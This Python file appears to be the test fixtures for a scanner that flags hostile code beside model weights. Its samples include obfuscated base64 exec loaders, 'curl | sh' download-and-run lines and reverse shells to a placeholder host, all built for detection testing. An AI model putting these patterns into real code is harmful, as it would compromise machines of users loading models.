"""Python beside weights: ordinary modelling code, and code that hides what it runs. Nothing here is ever
run; the command is `true`, the host is `example.invalid`."""
import base64

from sample import Sample

MODEL = '''
"""A small model."""
import math
from typing import Optional, Tuple

import torch
import torch.nn as nn
import torch.nn.functional as F
from transformers import PreTrainedModel
from .configuration_x import XConfig

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None


class XAttention(nn.Module):
    def __init__(self, config: XConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.q_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.register_buffer("inv_freq", 1.0 / (10000 ** (torch.arange(0, 8, 2).float() / 8)))

    def forward(self, x: torch.Tensor) -> Tuple[torch.Tensor, ...]:
        y = F.softmax(self.q_proj(x) / math.sqrt(x.shape[-1]), dim=-1)
        return (y.masked_fill(y > 1, float("-inf")),)


class XModel(PreTrainedModel):
    config_class = XConfig

    def load_it(self, path):
        return torch.load(path, map_location="cpu")  # eval(exec("nothing"))

    @torch.no_grad()
    def generate(self, *args, **kwargs):
        self.eval()
        pattern = re.compile(r"exec\\(.*\\)")
        return self.model.compile(*args, **kwargs)
'''

TORCHSCRIPT = '''class Linear(Module):
  __parameters__ = ["weight", "bias", ]
  __buffers__ = []
  weight : Tensor
  bias : Tensor
  training : bool
  def forward(self: __torch__.torch.nn.modules.linear.Linear,
    input: Tensor) -> Tensor:
    return torch.linear(input, self.weight, self.bias)
'''

ENCODED = base64.b64encode(b"import os; os.system('true')").decode()

DECODED = {
    "exec-base64": f"import base64\nexec(base64.b64decode('{ENCODED}'))\n",
    "alias": f"from base64 import b64decode as d\nexec(d('{ENCODED}'))\n",
    "variable": f"import base64\np = base64.b64decode('{ENCODED}')\nq = p.decode()\nexec(q)\n",
    "compile": f"import base64 as b\nexec(compile(b.b64decode('{ENCODED}'), 'x', 'exec'))\n",
    "zlib": "import zlib, base64\neval(zlib.decompress(base64.b64decode('')))\n",
    "marshal": "import marshal\nexec(marshal.loads(bytes.fromhex('')))\n",
    "characters": "exec(''.join(chr(i) for i in [112, 97, 115, 115]))\n",
    "builtins": f"import base64\n__builtins__['exec'](base64.b64decode('{ENCODED}'))\n",
    "one-line": f"import base64 as b;exec(b.b64decode('{ENCODED}'))",
    "behind-colon": f"if True: import base64 as b; exec(b.b64decode('{ENCODED}'))\n",
    "in-class": f"import base64\nclass M:\n    exec(base64.b64decode('{ENCODED}'))\n",
    "in-function": f"import base64\ndef load():\n    exec(base64.b64decode('{ENCODED}'))\n",
    "in-default": f"import base64\ndef f(x=exec(base64.b64decode('{ENCODED}'))):\n    pass\n",
    "in-decorator": f"import base64\n@exec(base64.b64decode('{ENCODED}'))\ndef f():\n    pass\n",
    "joined-lines": f"import base64\nexec(  \\\n  base64.b64decode(\n    '{ENCODED}'\n))\n",
}
FETCHED = {
    "fetched": "import urllib.request as u\nexec(u.urlopen('https://example.invalid/x').read())\n",
    "requests": "import requests\nr = requests.get('https://example.invalid/x')\nexec(r.text)\n",
}
HIDDEN = {
    "import-expression": "__import__('os').system('true')\n",
    "import-pieces": "__import__('o' + 's').system('true')\n",
    "import-escaped": "__import__('\\x6f\\x73').popen('true')\n",
    "import-module": "import importlib\nimportlib.import_module('subprocess').run(['true'])\n",
    "getattr": "import os\ngetattr(os, 'sys' 'tem')('true')\n",
}
DOWNLOAD = {
    "curl": "import os\nos.system('curl https://example.invalid/x | sh')\n",
    "tcp": "import subprocess as s\ns.call('bash -i >& /dev/tcp/example.invalid/1 0>&1', shell=True)\n",
    "in-method": "import os\nclass M:\n    def __init__(self):\n        os.popen('wget -qO- https://example.invalid/x | bash')\n",
}
RUNS = {"curl": "behaviour-download-and-run", "tcp": "behaviour-reverse-shell", "in-method": "behaviour-runs-download"}
WEIGHT = {"in-method": "clean"}  # an installer does the same when it is asked to
IN_FUNCTION = {"in-function", "in-method"}


def beside(name, rule):
    """The rule of the behaviour, and that of the call, which depends on when it is made."""
    return {rule, "code-runs-commands" if name in IN_FUNCTION else "code-runs-at-import"}


SHELL = """import socket, subprocess, os
def f():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(('example.invalid', 1))
    os.dup2(s.fileno(), 0)
    subprocess.call(['true'])
"""
IMPORT_TIME = {
    "system": "import os\nos.system('true')\n",
    "subprocess": "import subprocess\nX = subprocess.check_output(['true'])\n",
    "exec": "exec('x = 1')\n",
    "ctypes": "from ctypes import CDLL\nlib = CDLL('libx.so')\n",
}
LATE = {
    "method-system": "import os\nclass M:\n    def f(self):\n        os.system('true')\n",
    "lambda-free": "import subprocess\ndef f():\n    return subprocess.run(['true'])\n",
}
BAD = {
    "open-string": "x = '''never ends\n",
    "line-string": "x = 'never ends\ny = 1\n",
    "zero": "x = 1\n\0y = 2\n",
}


def samples():
    yield Sample("ok", "modeling_x.py", MODEL.encode())
    yield Sample("ok", "empty.py", b"")
    yield Sample("ok", "mark.py", b"\xef\xbb\xbfimport math\n")
    yield Sample("ok", "script", b"#!/usr/bin/env python3\nprint('x')\n")
    yield Sample("ok", "torchscript.py", TORCHSCRIPT.encode(), status="skipped")
    for name, text in DECODED.items():
        yield Sample("evil", f"{name}.py", text.encode(), beside(name, "behaviour-decode-and-run"))
    for name, text in FETCHED.items():
        yield Sample("evil", f"{name}.py", text.encode(), beside(name, "behaviour-download-and-run"))
    for name, text in HIDDEN.items():
        yield Sample("evil", f"{name}.py", text.encode(), {"code-hidden"})
    yield Sample("evil", "torchscript-that-imports.py",
                 (TORCHSCRIPT + "import os\n__import__('os').system('true')\n").encode(),
                 {"code-hidden"})
    for name, text in DOWNLOAD.items():
        yield Sample("evil", f"{name}.py", text.encode(), beside(name, RUNS[name]), WEIGHT.get(name, "malicious"))
    yield Sample("evil", "shell.py", SHELL.encode(), {"behaviour-reverse-shell", "code-runs-commands"})
    for name, text in IMPORT_TIME.items():
        yield Sample("evil", f"import-{name}.py", text.encode(), {"code-runs-at-import"}, "review")
    for name, text in LATE.items():
        yield Sample("ok", f"{name}.py", text.encode(), {"code-runs-commands"})
    for name, text in BAD.items():
        yield Sample("bad", f"{name}.py", text.encode(), {"malformed"})
    yield Sample("evil", "beside/modeling_x.py", MODEL.encode(), {"code-beside-weights"}, "review")
    yield Sample("ok", "lib/site-packages/own/modeling_x.py", MODEL.encode())
    yield Sample("ok", "lib/site-packages/own/config.json", b'{"model_type": "x"}')
    yield Sample("evil", "beside/config.json", b'{"model_type": "x"}', verdict="clean")
